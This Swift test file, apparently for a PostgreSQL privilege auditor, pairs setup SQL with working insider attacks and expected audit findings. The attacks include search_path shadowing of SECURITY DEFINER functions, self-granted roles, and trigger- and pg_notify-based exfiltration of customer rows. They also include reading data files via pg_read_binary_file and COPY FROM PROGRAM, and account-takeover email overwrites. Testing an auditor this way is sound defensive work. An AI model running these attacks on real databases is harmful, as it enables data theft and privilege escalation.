import Testing

/// One road from privileges an insider holds to customer data, written by hand: the SQL that
/// builds it, the attack that works on a real server, and what the audit must say.
///
/// Every road's database has `public.customers (id, email)` holding the canary in `email`,
/// owned by `support_owner`, and a login role `mallory` who is the insider. `{canary}` in the
/// SQL is replaced by the canary, `{writer}` in the attack by a shell command that has another
/// role write every customer row (every column) and add a new customer, `{reader}` by one that keeps a query naming the canary running,
/// `{agentReader}` by one where the login role `agent` reads the customers (row security applies),
/// `{socket}`, `{port}` and `{database}` by where the road's database is (for a server pointing back at it),
/// `{superuser}` by the psql command line of the superuser (what the server's own operating-system
/// user can run), `{reload}` by one that reloads the configuration and switches the WAL segment,
/// as routine operations do (the servers run with `archive_mode=on`).
struct CapabilityRoad: Sendable, CustomTestStringConvertible {
    var name: String
    /// The majors on which the road exists (and the attack can be run).
    var majors: [Int] = [15, 16, 17, 18]
    var setup: String
    var attack: String
    /// The capability step the finding's path must carry (`CapabilityStep.kind`); nil when the
    /// road is ownership (its own step). For a road that must not work (`expectAttackWorks`
    /// false) the step the audit must not report.
    var capability: String?
    /// What the finding's cause must say (a fragment).
    var cause: String?
    var expectAttackWorks = true
    /// The mode the finding must list mallory in.
    var mode = "capability"
    /// The privilege the policy denies on the canary column (a write road denies UPDATE).
    var deniedPrivilege = "SELECT"
    /// For a write road: SQL the superuser runs after the attack; the attack worked when its
    /// output says `taken-over` (the value the attack writes).
    var verify: String?
    /// What in the attack's output says it worked, when not the canary (a probe's answer).
    var success: String?
    /// The rule whose findings must list mallory.
    var rule = "customer-data"
    /// Statements the superuser runs after the road, one at a time (ALTER SYSTEM cannot run in
    /// a transaction block): what the road changed outside its database.
    var cleanup: [String] = []

    var testDescription: String { name }

    static let base = """
        CREATE ROLE support_owner NOLOGIN;
        CREATE ROLE mallory LOGIN;
        CREATE TABLE public.customers (id int, email text);
        INSERT INTO public.customers VALUES (1, '{canary}');
        ALTER TABLE public.customers OWNER TO support_owner;
        CREATE TABLE public.queue (id int);
        GRANT SELECT ON public.queue TO PUBLIC;
        """

    /// The temporary view that makes a definer that reads `queue` unqualified run mallory's code.
    static let shadowQueue = """
        CREATE FUNCTION pg_temp.evil() RETURNS SETOF int LANGUAGE plpgsql AS $e$
        DECLARE r text;
        BEGIN
          FOR r IN SELECT rolname FROM pg_roles WHERE rolname IN ('pii_readers', 'pg_read_all_data') LOOP
            BEGIN EXECUTE format('GRANT %I TO mallory', r); EXCEPTION WHEN others THEN NULL; END;
          END LOOP;
          RETURN NEXT 1;
        END $e$;
        CREATE TEMP VIEW queue AS SELECT * FROM pg_temp.evil() AS x(id);
        GRANT SELECT ON queue TO PUBLIC;
        """

    /// A plpgsql definer reading `queue` unqualified with `search_path` pinned to `path`, and the
    /// temporary view that would shadow it.
    static func pinned(_ name: String, path: String, cause: String?, works: Bool) -> CapabilityRoad {
        CapabilityRoad(
            name: name,
            setup: """
                CREATE ROLE reporting NOLOGIN;
                GRANT SELECT ON public.customers TO reporting;
                CREATE FUNCTION public.queue_length() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER SET search_path = \(path)
                  AS $b$ BEGIN RETURN (SELECT count(*) FROM queue); END $b$;
                ALTER FUNCTION public.queue_length() OWNER TO reporting;
                """,
            attack: """
                CREATE FUNCTION pg_temp.evil() RETURNS SETOF int LANGUAGE plpgsql AS $e$
                DECLARE v text; BEGIN SELECT string_agg(email, ',') INTO v FROM public.customers; RAISE NOTICE 'LOOT %', v; RETURN NEXT 1; END $e$;
                CREATE TEMP VIEW queue AS SELECT * FROM pg_temp.evil() AS x(id);
                GRANT SELECT ON queue TO PUBLIC;
                SELECT public.queue_length();
                """,
            capability: "definer_code", cause: cause, expectAttackWorks: works)
    }

    /// `public.inspect(text)`, owned by a group of mallory's, called by an expression of the
    /// customers table's own (`uses`): mallory replaces it, another role writes, the values come.
    /// Without CREATE on the function's schema (`schemaCreate` false) the owner cannot replace
    /// the body: the road must fail and the audit stay silent.
    static func expressionRoad(
        _ name: String, returns: String, result: String, uses: String, cause: String?, schemaCreate: Bool = true
    ) -> CapabilityRoad {
        CapabilityRoad(
            name: name,
            setup: """
                CREATE ROLE auditor NOLOGIN;
                GRANT auditor TO mallory;
                \(schemaCreate ? "GRANT CREATE ON SCHEMA public TO auditor;" : "REVOKE CREATE ON SCHEMA public FROM PUBLIC;")
                CREATE FUNCTION public.inspect(text) RETURNS \(returns) LANGUAGE plpgsql IMMUTABLE AS $b$ BEGIN RETURN \(result); END $b$;
                ALTER FUNCTION public.inspect(text) OWNER TO auditor;
                \(uses)
                """,
            attack: """
                LISTEN loot;
                CREATE OR REPLACE FUNCTION public.inspect(text) RETURNS \(returns) LANGUAGE plpgsql IMMUTABLE
                  AS $w$ BEGIN PERFORM pg_notify('loot', $1); RETURN \(result); END $w$;
                \\! {writer}
                SELECT 'delivered';
                """,
            capability: "expression_function", cause: cause, expectAttackWorks: schemaCreate)
    }

    /// Reads the catalogs' dependencies under-record (the rows-really-go issue): each a plain
    /// read mallory makes, which the audit must list in mode `direct`.
    static let dataFlow: [CapabilityRoad] = [
        CapabilityRoad(
            name: "A definer view returning a whole row (row_to_json) reads every column, though pg_depend records one",
            setup: """
                CREATE ROLE reporting NOLOGIN;
                GRANT SELECT ON public.customers TO reporting;
                CREATE VIEW public.customer_docs AS SELECT c.id, row_to_json(c)::text AS doc FROM public.customers c;
                ALTER VIEW public.customer_docs OWNER TO reporting;
                GRANT SELECT ON public.customer_docs TO mallory;
                """,
            attack: "SELECT doc FROM public.customer_docs;",
            capability: nil, cause: "public.customer_docs", mode: "direct"),
        reportingDefiner(
            "A SQL-standard definer body casting a whole row to text reads every column",
            function: "customer_lines()", body: "SELECT c::text FROM public.customers c WHERE c.id > 0;"),
        CapabilityRoad(
            name: "A whole row of a subquery (RECORD) counts every relation the view reads",
            setup: """
                CREATE ROLE reporting NOLOGIN;
                GRANT SELECT ON public.customers, public.queue TO reporting;
                CREATE VIEW public.queue_docs AS
                  SELECT q.id, row_to_json(x)::text AS doc FROM public.queue q JOIN (SELECT c.id, c.email FROM public.customers c) x ON x.id = q.id;
                ALTER VIEW public.queue_docs OWNER TO reporting;
                GRANT SELECT (doc) ON public.queue_docs TO mallory;
                INSERT INTO public.queue VALUES (1);
                """,
            attack: "SELECT doc FROM public.queue_docs;",
            capability: nil, cause: "public.queue_docs", mode: "direct"),
        CapabilityRoad(
            name: "An INHERITS child of the classified table, named directly: its own rows, its own ACL",
            setup: """
                CREATE TABLE public.customers_archive () INHERITS (public.customers);
                INSERT INTO public.customers_archive VALUES (2, '{canary}');
                GRANT SELECT ON public.customers_archive TO mallory;
                """,
            attack: "SELECT email FROM public.customers_archive;",
            capability: nil, cause: "public.customers_archive", mode: "direct"),
        CapabilityRoad(
            name: "The partitioned parent of the classified table: SELECT on it returns the partition's rows",
            setup: """
                CREATE TABLE public.all_customers (id int, email text) PARTITION BY LIST (id);
                ALTER TABLE public.all_customers ATTACH PARTITION public.customers FOR VALUES IN (1);
                GRANT SELECT ON public.all_customers TO mallory;
                """,
            attack: "SELECT email FROM public.all_customers;",
            capability: nil, cause: "public.all_customers", mode: "direct"),
        viewWrite("UPDATE on an auto-updatable definer view writes the base table with its owner's rights (account takeover)", securityInvoker: false),
        viewWrite("UPDATE on a security_invoker view checks the caller's own rights: no write through (no road)", securityInvoker: true),
        definerWrite(securityDefiner: true),
        definerWrite(securityDefiner: false),
        viewOverViewWrite,
        plpgsqlDefinerWrite(dynamic: false),
        plpgsqlDefinerWrite(dynamic: true),
        insteadOfTriggerWrite(securityDefiner: true),
        insteadOfTriggerWrite(securityDefiner: false),
        tableTriggerWrite,
        CapabilityRoad(
            name: "INSERT under a unique index on the classified column answers whether a value exists (the error, though PostgreSQL hides the key)",
            setup: """
                ALTER TABLE public.customers ADD CONSTRAINT customers_email_key UNIQUE (email);
                GRANT INSERT ON public.customers TO mallory;
                """,
            attack: "INSERT INTO public.customers (id, email) VALUES (2, '{canary}');",
            capability: nil, cause: "public.customers", mode: "direct", success: "duplicate key value violates unique constraint", rule: "existence-oracle"),
        CapabilityRoad(
            name: "REFERENCES on the classified column: a foreign key of one's own probes values",
            setup: """
                ALTER TABLE public.customers ADD CONSTRAINT customers_email_key UNIQUE (email);
                GRANT REFERENCES (email) ON public.customers TO mallory;
                GRANT CREATE ON SCHEMA public TO mallory;
                """,
            attack: """
                CREATE TABLE public.probe (email text REFERENCES public.customers (email));
                INSERT INTO public.probe VALUES ('{canary}');
                SELECT 'probe answered: ' || count(*) FROM public.probe;
                """,
            capability: nil, cause: "public.customers", mode: "direct", success: "probe answered: 1", rule: "existence-oracle"),
        reportingDefiner(
            "A SQL-standard definer body calling an invoker function: the callee reads with the definer's rights",
            function: "summary()", body: "SELECT public.lookup();",
            before: "CREATE FUNCTION public.lookup() RETURNS SETOF text LANGUAGE sql STABLE BEGIN ATOMIC SELECT email FROM public.customers; END;"),
        reportingDefiner(
            "A SQL-standard definer body running SQL given as text (ts_stat): opaque, everything its owner reads",
            function: "word_counts()",
            body: "SELECT word FROM pg_catalog.ts_stat('SELECT pg_catalog.to_tsvector(''simple'', email) FROM public.customers');"),
        CapabilityRoad(
            name: "A SQL-standard definer body calling another definer: its callers reach what the callee's owner reads",
            setup: """
                CREATE ROLE reporting NOLOGIN;
                CREATE ROLE dba NOLOGIN;
                GRANT SELECT ON public.customers TO dba;
                CREATE FUNCTION public.vault() RETURNS SETOF text LANGUAGE sql STABLE SECURITY DEFINER BEGIN ATOMIC SELECT email FROM public.customers; END;
                ALTER FUNCTION public.vault() OWNER TO dba;
                REVOKE EXECUTE ON FUNCTION public.vault() FROM PUBLIC;
                GRANT EXECUTE ON FUNCTION public.vault() TO reporting;
                CREATE FUNCTION public.summary() RETURNS SETOF text LANGUAGE sql STABLE SECURITY DEFINER BEGIN ATOMIC SELECT public.vault(); END;
                ALTER FUNCTION public.summary() OWNER TO reporting;
                """,
            attack: "SELECT public.summary();",
            capability: nil, cause: "public.summary()", mode: "direct"),
    ]

    /// `public.<function>`, a SQL-standard definer owned by `reporting` (which reads the
    /// customers) with `body`, after the SQL in `before`: mallory calls it (PUBLIC's EXECUTE).
    static func reportingDefiner(_ name: String, function: String, body: String, before: String = "") -> CapabilityRoad {
        CapabilityRoad(
            name: name,
            setup: """
                CREATE ROLE reporting NOLOGIN;
                GRANT SELECT ON public.customers TO reporting;
                \(before)
                CREATE FUNCTION public.\(function) RETURNS SETOF text LANGUAGE sql STABLE SECURITY DEFINER BEGIN ATOMIC \(body) END;
                ALTER FUNCTION public.\(function) OWNER TO reporting;
                """,
            attack: "SELECT public.\(function);",
            capability: nil, cause: "public.\(function)", mode: "direct")
    }

    /// `public.customer_contacts` over the customers, owned by `crm` (which may UPDATE them), with
    /// UPDATE (email) granted to mallory, who sets every email: through a definer view the write
    /// lands; through a `security_invoker` one it must fail and stay unreported.
    /// A SQL-standard function that sets a customer's email, EXECUTE granted to mallory: as
    /// SECURITY DEFINER it writes with its owner's rights (the road); as an invoker function with
    /// mallory's own, which fail.
    static func definerWrite(securityDefiner: Bool) -> CapabilityRoad {
        CapabilityRoad(
            name: securityDefiner
                ? "EXECUTE on a SECURITY DEFINER function whose SQL-standard body updates the email (account takeover)"
                : "EXECUTE on an invoker function whose body updates the email: the caller's own rights (no road)",
            setup: """
                CREATE ROLE crm NOLOGIN;
                GRANT SELECT, UPDATE ON public.customers TO crm;
                CREATE FUNCTION public.set_email(customer int, address text) RETURNS void LANGUAGE sql\(securityDefiner ? " SECURITY DEFINER" : "")
                BEGIN ATOMIC
                  UPDATE public.customers SET email = address WHERE id = customer;
                END;
                ALTER FUNCTION public.set_email(int, text) OWNER TO crm;
                REVOKE EXECUTE ON FUNCTION public.set_email(int, text) FROM PUBLIC;
                GRANT EXECUTE ON FUNCTION public.set_email(int, text) TO mallory;
                """,
            attack: "SELECT public.set_email(id, 'taken-over@evil.example') FROM (VALUES (1)) v(id);",
            capability: nil, cause: securityDefiner ? "public.set_email" : nil, expectAttackWorks: securityDefiner, mode: "direct",
            deniedPrivilege: "UPDATE", verify: "SELECT email FROM public.customers")
    }

    /// A definer view over an updatable definer view: UPDATE (email) on the outer one writes the
    /// customers through both owners' rights.
    static let viewOverViewWrite = CapabilityRoad(
        name: "UPDATE on a definer view over an updatable definer view writes the base table through both owners (account takeover)",
        setup: """
            CREATE ROLE crm NOLOGIN;
            CREATE ROLE desk NOLOGIN;
            GRANT SELECT, UPDATE ON public.customers TO crm;
            CREATE VIEW public.contacts AS SELECT id, email FROM public.customers;
            ALTER VIEW public.contacts OWNER TO crm;
            GRANT SELECT, UPDATE ON public.contacts TO desk;
            CREATE VIEW public.desk_contacts AS SELECT id, email FROM public.contacts;
            ALTER VIEW public.desk_contacts OWNER TO desk;
            GRANT UPDATE (email) ON public.desk_contacts TO mallory;
            """,
        attack: "UPDATE public.desk_contacts SET email = 'taken-over@evil.example';",
        capability: nil, cause: "public.desk_contacts", mode: "direct", deniedPrivilege: "UPDATE", verify: "SELECT email FROM public.customers")

    /// A plpgsql SECURITY DEFINER function (search_path pinned, pg_temp last: no redirection)
    /// that sets an email, by a static statement or by SQL built at run time.
    static func plpgsqlDefinerWrite(dynamic: Bool) -> CapabilityRoad {
        let statement = dynamic
            ? "EXECUTE format('UPDATE public.customers SET %I = $1 WHERE id = $2', 'email') USING address, customer;"
            : "UPDATE customers SET email = address WHERE id = customer;"
        return CapabilityRoad(
            name: dynamic
                ? "EXECUTE on a plpgsql SECURITY DEFINER function running SQL built at run time: anything its owner can write"
                : "EXECUTE on a plpgsql SECURITY DEFINER function whose UPDATE sets the email (account takeover)",
            setup: """
                CREATE ROLE crm NOLOGIN;
                GRANT SELECT, UPDATE ON public.customers TO crm;
                CREATE FUNCTION public.set_email(customer int, address text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
                SET search_path = public, pg_temp AS $$
                BEGIN
                  -- a comment naming 'UPDATE public.tickets'
                  \(statement)
                END $$;
                ALTER FUNCTION public.set_email(int, text) OWNER TO crm;
                REVOKE EXECUTE ON FUNCTION public.set_email(int, text) FROM PUBLIC;
                GRANT EXECUTE ON FUNCTION public.set_email(int, text) TO mallory;
                """,
            attack: "SELECT public.set_email(1, 'taken-over@evil.example');",
            capability: nil, cause: "public.set_email", mode: "direct", deniedPrivilege: "UPDATE", verify: "SELECT email FROM public.customers")
    }

    /// An auto-updatable definer view whose INSERT an INSTEAD OF trigger takes over: a SECURITY
    /// DEFINER trigger function writes with its owner's rights (no EXECUTE needed to fire it); an
    /// invoker one with mallory's, which fail, and the view no longer passes INSERT to its base.
    static func insteadOfTriggerWrite(securityDefiner: Bool) -> CapabilityRoad {
        CapabilityRoad(
            name: securityDefiner
                ? "INSERT on a view whose INSTEAD OF trigger runs a SECURITY DEFINER function that sets the email"
                : "INSERT on a view whose INSTEAD OF trigger runs an invoker function: the caller's own rights, and no auto-update (no road)",
            setup: """
                CREATE ROLE crm NOLOGIN;
                GRANT SELECT, INSERT, UPDATE ON public.customers TO crm;
                CREATE VIEW public.email_requests AS SELECT id, email FROM public.customers;
                ALTER VIEW public.email_requests OWNER TO crm;
                CREATE FUNCTION public.apply_email_request() RETURNS trigger LANGUAGE plpgsql\(securityDefiner ? " SECURITY DEFINER" : "")
                SET search_path = public, pg_temp AS $$
                BEGIN
                  UPDATE customers SET email = NEW.email WHERE id = NEW.id;
                  RETURN NEW;
                END $$;
                ALTER FUNCTION public.apply_email_request() OWNER TO crm;
                REVOKE EXECUTE ON FUNCTION public.apply_email_request() FROM PUBLIC;
                CREATE TRIGGER apply INSTEAD OF INSERT ON public.email_requests FOR EACH ROW EXECUTE FUNCTION public.apply_email_request();
                GRANT INSERT ON public.email_requests TO mallory;
                """,
            attack: "INSERT INTO public.email_requests VALUES (1, 'taken-over@evil.example');",
            capability: nil, cause: securityDefiner ? "public.apply_email_request" : nil, expectAttackWorks: securityDefiner, mode: "direct",
            // The invoker twin is checked against INSERT: auto-update would have written the base.
            deniedPrivilege: securityDefiner ? "UPDATE" : "INSERT", verify: "SELECT email FROM public.customers")
    }

    /// A table mallory may INSERT into whose AFTER trigger runs a SECURITY DEFINER function that
    /// copies the row into the customers.
    static let tableTriggerWrite = CapabilityRoad(
        name: "INSERT on a table whose AFTER trigger runs a SECURITY DEFINER function that sets the email",
        setup: """
            CREATE ROLE crm NOLOGIN;
            GRANT SELECT, UPDATE ON public.customers TO crm;
            CREATE TABLE public.profile_changes (id int, email text);
            GRANT INSERT ON public.profile_changes TO mallory;
            CREATE FUNCTION public.apply_profile_change() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
            SET search_path = public, pg_temp AS $$
            BEGIN
              UPDATE public.customers SET email = NEW.email WHERE id = NEW.id;
              RETURN NEW;
            END $$;
            ALTER FUNCTION public.apply_profile_change() OWNER TO crm;
            CREATE TRIGGER apply AFTER INSERT ON public.profile_changes FOR EACH ROW EXECUTE FUNCTION public.apply_profile_change();
            """,
        attack: "INSERT INTO public.profile_changes VALUES (1, 'taken-over@evil.example');",
        capability: nil, cause: "public.apply_profile_change", mode: "direct", deniedPrivilege: "UPDATE", verify: "SELECT email FROM public.customers")

    static func viewWrite(_ name: String, securityInvoker: Bool) -> CapabilityRoad {
        CapabilityRoad(
            name: name,
            setup: """
                CREATE ROLE crm NOLOGIN;
                GRANT SELECT, UPDATE ON public.customers TO crm;
                CREATE VIEW public.customer_contacts\(securityInvoker ? " WITH (security_invoker = true)" : "") AS SELECT id, email FROM public.customers;
                ALTER VIEW public.customer_contacts OWNER TO crm;
                GRANT UPDATE (email) ON public.customer_contacts TO mallory;
                """,
            attack: "UPDATE public.customer_contacts SET email = 'taken-over@evil.example';",
            capability: nil, cause: securityInvoker ? nil : "public.customer_contacts", expectAttackWorks: !securityInvoker, mode: "direct",
            deniedPrivilege: "UPDATE", verify: "SELECT email FROM public.customers")
    }

    static let all: [CapabilityRoad] = [
        CapabilityRoad(
            name: "ADMIN OPTION alone (PostgreSQL 16+): grants itself the role",
            majors: [16, 17, 18],
            setup: """
                CREATE ROLE pii_readers NOLOGIN;
                GRANT SELECT ON public.customers TO pii_readers;
                GRANT pii_readers TO mallory WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;
                """,
            attack: "GRANT pii_readers TO mallory; SET ROLE pii_readers; SELECT email FROM public.customers;",
            capability: "admin_option", cause: "ADMIN OPTION on pii_readers held by mallory"),
        CapabilityRoad(
            name: "ADMIN OPTION held by an inherited group (PostgreSQL 16+): grants itself the role",
            majors: [16, 17, 18],
            setup: """
                CREATE ROLE pii_readers NOLOGIN;
                CREATE ROLE helpdesk NOLOGIN;
                GRANT SELECT ON public.customers TO pii_readers;
                GRANT pii_readers TO helpdesk WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;
                GRANT helpdesk TO mallory;
                """,
            attack: "GRANT pii_readers TO mallory; SET ROLE pii_readers; SELECT email FROM public.customers;",
            capability: "admin_option", cause: "ADMIN OPTION on pii_readers held by helpdesk"),
        CapabilityRoad(
            name: "CREATEROLE before PostgreSQL 16: grants itself pg_read_all_data",
            majors: [15],
            setup: "ALTER ROLE mallory CREATEROLE;",
            attack: "GRANT pg_read_all_data TO mallory; SET ROLE pg_read_all_data; SELECT email FROM public.customers;",
            capability: "createrole", cause: "CREATEROLE of mallory"),
        CapabilityRoad(
            name: "An owner that revoked its own SELECT grants it back",
            setup: """
                ALTER TABLE public.customers OWNER TO mallory;
                REVOKE ALL ON public.customers FROM mallory;
                """,
            attack: "GRANT SELECT ON public.customers TO mallory; SELECT email FROM public.customers;",
            capability: nil, cause: "mallory owns public.customers (can grant itself SELECT"),
        CapabilityRoad(
            name: "Unpinned plpgsql SECURITY DEFINER: a temporary view runs the caller's code as the owner",
            setup: """
                CREATE ROLE pii_readers NOLOGIN;
                CREATE ROLE onboarding NOLOGIN;
                GRANT SELECT ON public.customers TO pii_readers;
                GRANT pii_readers TO onboarding WITH ADMIN OPTION;
                CREATE FUNCTION public.queue_length() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER
                  AS $b$ BEGIN RETURN (SELECT count(*) FROM queue); END $b$;
                ALTER FUNCTION public.queue_length() OWNER TO onboarding;
                """,
            attack: shadowQueue + "SELECT public.queue_length(); SET ROLE pii_readers; SELECT email FROM public.customers;",
            capability: "definer_code", cause: "EXECUTE public.queue_length() (SECURITY DEFINER, search_path not pinned"),
        pinned(
            "search_path pinned without pg_temp last: temporary relations still come first", path: "public",
            cause: "search_path not pinned", works: true),
        pinned("search_path pinned with pg_temp last: no road (the attack fails, the audit is silent)", path: "public, pg_temp", cause: nil, works: false),
        CapabilityRoad(
            name: "A definer trigger function runs for every writer, EXECUTE revoked or not",
            setup: """
                CREATE ROLE pii_readers NOLOGIN;
                CREATE ROLE events_owner NOLOGIN;
                GRANT SELECT ON public.customers TO pii_readers;
                GRANT pii_readers TO events_owner WITH ADMIN OPTION;
                CREATE TABLE public.events (id int);
                CREATE FUNCTION public.on_event() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
                  AS $b$ BEGIN PERFORM count(*) FROM queue; RETURN NEW; END $b$;
                ALTER FUNCTION public.on_event() OWNER TO events_owner;
                REVOKE EXECUTE ON FUNCTION public.on_event() FROM PUBLIC;
                CREATE TRIGGER on_event BEFORE INSERT ON public.events FOR EACH ROW EXECUTE FUNCTION public.on_event();
                GRANT INSERT ON public.events TO mallory;
                """,
            attack: shadowQueue + "INSERT INTO public.events VALUES (1); SET ROLE pii_readers; SELECT email FROM public.customers;",
            capability: "definer_code", cause: "writes public.events, whose trigger runs SECURITY DEFINER public.on_event()"),
        CapabilityRoad(
            name: "An aggregate runs its definer support function without the caller's EXECUTE on it",
            setup: """
                CREATE ROLE pii_readers NOLOGIN;
                CREATE ROLE stats_owner NOLOGIN;
                GRANT SELECT ON public.customers TO pii_readers;
                GRANT pii_readers TO stats_owner WITH ADMIN OPTION;
                CREATE FUNCTION public.acc(bigint, int) RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER
                  AS $b$ BEGIN RETURN $1 + (SELECT count(*) FROM queue); END $b$;
                ALTER FUNCTION public.acc(bigint, int) OWNER TO stats_owner;
                REVOKE EXECUTE ON FUNCTION public.acc(bigint, int) FROM PUBLIC;
                CREATE AGGREGATE public.total(int) (sfunc = public.acc, stype = bigint, initcond = '0');
                """,
            attack: shadowQueue + "SELECT public.total(x) FROM (VALUES (1)) v(x); SET ROLE pii_readers; SELECT email FROM public.customers;",
            capability: "definer_code", cause: "EXECUTE public.acc(bigint, integer)"),
        CapabilityRoad(
            name: "TRIGGER on a table: a trigger receives every row another role writes",
            setup: "GRANT TRIGGER ON public.customers TO mallory; GRANT USAGE ON SCHEMA public TO mallory;",
            attack: """
                LISTEN loot;
                CREATE FUNCTION pg_temp.watch() RETURNS trigger LANGUAGE plpgsql AS $w$ BEGIN PERFORM pg_notify('loot', row_to_json(NEW)::text); RETURN NEW; END $w$;
                CREATE TRIGGER watch AFTER UPDATE ON public.customers FOR EACH ROW EXECUTE FUNCTION pg_temp.watch();
                \\! {writer}
                SELECT 'delivered';
                """,
            capability: "trigger", cause: "TRIGGER on public.customers"),
        CapabilityRoad(
            name: "Owning a trigger function of the table: replacing its body receives every row",
            setup: """
                CREATE ROLE auditor NOLOGIN;
                GRANT auditor TO mallory;
                CREATE FUNCTION public.audit() RETURNS trigger LANGUAGE plpgsql AS $b$ BEGIN RETURN NEW; END $b$;
                ALTER FUNCTION public.audit() OWNER TO auditor;
                GRANT CREATE ON SCHEMA public TO auditor;
                CREATE TRIGGER audit AFTER UPDATE ON public.customers FOR EACH ROW EXECUTE FUNCTION public.audit();
                """,
            attack: """
                LISTEN loot;
                CREATE OR REPLACE FUNCTION public.audit() RETURNS trigger LANGUAGE plpgsql AS $w$ BEGIN PERFORM pg_notify('loot', row_to_json(NEW)::text); RETURN NEW; END $w$;
                \\! {writer}
                SELECT 'delivered';
                """,
            capability: "trigger_function", cause: "owns trigger function public.audit() of public.customers"),
        expressionRoad(
            "Owning a function a CHECK constraint calls: replacing it receives every value written",
            returns: "boolean", result: "true", uses: "ALTER TABLE public.customers ADD CONSTRAINT valid_email CHECK (public.inspect(email));",
            cause: "owns public.inspect(text), called by the CHECK constraint valid_email of public.customers"),
        expressionRoad(
            "Owning a function a stored generated column calls: replacing it receives every value written",
            returns: "text", result: "md5($1)", uses: "ALTER TABLE public.customers ADD COLUMN email_hash text GENERATED ALWAYS AS (public.inspect(email)) STORED;",
            cause: "owns public.inspect(text), called by the generated column email_hash of public.customers"),
        expressionRoad(
            "Owning a function an index expression calls: replacing it receives every new value",
            returns: "text", result: "lower($1)", uses: "CREATE INDEX customers_email_norm ON public.customers (public.inspect(email));",
            cause: "owns public.inspect(text), called by the index customers_email_norm of public.customers"),
        expressionRoad(
            "Owning a function a CHECK constraint calls without CREATE on its schema: the body cannot be replaced (no road)",
            returns: "boolean", result: "true", uses: "ALTER TABLE public.customers ADD CONSTRAINT valid_email CHECK (public.inspect(email));",
            cause: nil, schemaCreate: false),
        CapabilityRoad(
            name: "Owning a function a row-security policy calls: replacing it receives the rows a reader is checked against",
            setup: """
                CREATE ROLE auditor NOLOGIN;
                CREATE ROLE agent LOGIN;
                GRANT auditor TO mallory;
                GRANT CREATE ON SCHEMA public TO auditor;
                CREATE FUNCTION public.region_ok(text) RETURNS boolean LANGUAGE plpgsql AS $b$ BEGIN RETURN true; END $b$;
                ALTER FUNCTION public.region_ok(text) OWNER TO auditor;
                ALTER TABLE public.customers ENABLE ROW LEVEL SECURITY;
                CREATE POLICY by_region ON public.customers USING (public.region_ok(email));
                GRANT SELECT ON public.customers TO agent;
                """,
            attack: """
                LISTEN loot;
                CREATE OR REPLACE FUNCTION public.region_ok(text) RETURNS boolean LANGUAGE plpgsql AS $w$ BEGIN PERFORM pg_notify('loot', $1); RETURN true; END $w$;
                \\! {agentReader}
                SELECT 'delivered';
                """,
            capability: "policy_function", cause: "owns public.region_ok(text), called by a row-security policy of public.customers"),
        CapabilityRoad(
            name: "Owning a function a SQL-standard SECURITY DEFINER body calls: replace it, call the definer, run as its owner",
            setup: """
                CREATE ROLE pii_readers NOLOGIN;
                CREATE ROLE onboarding NOLOGIN;
                GRANT SELECT ON public.customers TO pii_readers;
                GRANT pii_readers TO onboarding WITH ADMIN OPTION;
                GRANT CREATE ON SCHEMA public TO mallory;
                CREATE FUNCTION public.helper() RETURNS int LANGUAGE plpgsql AS $b$ BEGIN RETURN 1; END $b$;
                ALTER FUNCTION public.helper() OWNER TO mallory;
                CREATE FUNCTION public.count_tickets() RETURNS int LANGUAGE sql SECURITY DEFINER BEGIN ATOMIC SELECT public.helper(); END;
                ALTER FUNCTION public.count_tickets() OWNER TO onboarding;
                """,
            attack: """
                CREATE OR REPLACE FUNCTION public.helper() RETURNS int LANGUAGE plpgsql AS $e$
                BEGIN EXECUTE 'GRANT pii_readers TO mallory'; RETURN 1; END $e$;
                SELECT public.count_tickets();
                SET ROLE pii_readers; SELECT email FROM public.customers;
                """,
            capability: "replaced_callee", cause: "owns public.helper(), called by SECURITY DEFINER public.count_tickets()"),
        CapabilityRoad(
            name: "A rewrite rule returns another table's rows to a role that may only INSERT",
            setup: """
                CREATE ROLE inbox_owner NOLOGIN;
                GRANT SELECT ON public.customers TO inbox_owner;
                CREATE TABLE public.inbox (id int);
                ALTER TABLE public.inbox OWNER TO inbox_owner;
                CREATE RULE fan_out AS ON INSERT TO public.inbox DO ALSO SELECT email FROM public.customers;
                GRANT INSERT (id) ON public.inbox TO mallory;
                """,
            attack: "INSERT INTO public.inbox (id) VALUES (1);",
            capability: "rewrite_rule", cause: "INSERT fires rule fan_out on public.inbox"),
        CapabilityRoad(
            name: "REPLICATION: logical decoding streams every table's rows",
            // The PostgreSQL 16 wheel ships no test_decoding plugin to decode with.
            majors: [15, 17, 18],
            setup: "ALTER ROLE mallory REPLICATION;",
            attack: """
                SELECT 'slot', pg_create_logical_replication_slot('loot', 'test_decoding', true);
                \\! {writer}
                SELECT data FROM pg_logical_slot_get_changes('loot', NULL, NULL);
                """,
            capability: "replication", cause: "mallory has REPLICATION"),
        CapabilityRoad(
            name: "pg_read_all_stats: other sessions' SQL text, literals included",
            setup: "GRANT pg_read_all_stats TO mallory;",
            attack: """
                \\! {reader}
                SELECT pg_sleep(1);
                SELECT query FROM pg_stat_activity WHERE query LIKE '%pg_sleep(4)%';
                """,
            capability: "monitoring", cause: "pg_read_all_stats"),
        CapabilityRoad(
            name: "SELECT granted on pg_statistic: column values of every analysed table",
            // A value must repeat to be among the most common values.
            setup: """
                INSERT INTO public.customers SELECT g, '{canary}' FROM generate_series(2, 50) g;
                GRANT SELECT ON pg_catalog.pg_statistic TO mallory;
                ANALYZE public.customers;
                """,
            attack: "SELECT stavalues1::text, stavalues2::text FROM pg_catalog.pg_statistic WHERE starelid = 'public.customers'::regclass;",
            capability: "catalog_grant", cause: "SELECT pg_catalog.pg_statistic granted to mallory"),
        CapabilityRoad(
            name: "EXECUTE granted on pg_read_binary_file: the data files",
            setup: "GRANT EXECUTE ON FUNCTION pg_catalog.pg_read_binary_file(text) TO mallory; CHECKPOINT;",
            attack: "SELECT encode(pg_read_binary_file(pg_relation_filepath('public.customers')), 'escape');",
            capability: "catalog_grant", cause: "EXECUTE pg_catalog.pg_read_binary_file(text) granted to mallory"),
        CapabilityRoad(
            name: "pg_execute_server_program: COPY FROM PROGRAM reads the data files",
            setup: "GRANT pg_execute_server_program TO mallory; CHECKPOINT;",
            attack: """
                CREATE TEMP TABLE loot (l text);
                SELECT format('COPY loot FROM PROGRAM %L', 'grep -a -o "cn7[a-z0-9]*z" ' || pg_relation_filepath('public.customers')) \\gexec
                SELECT l FROM loot;
                """,
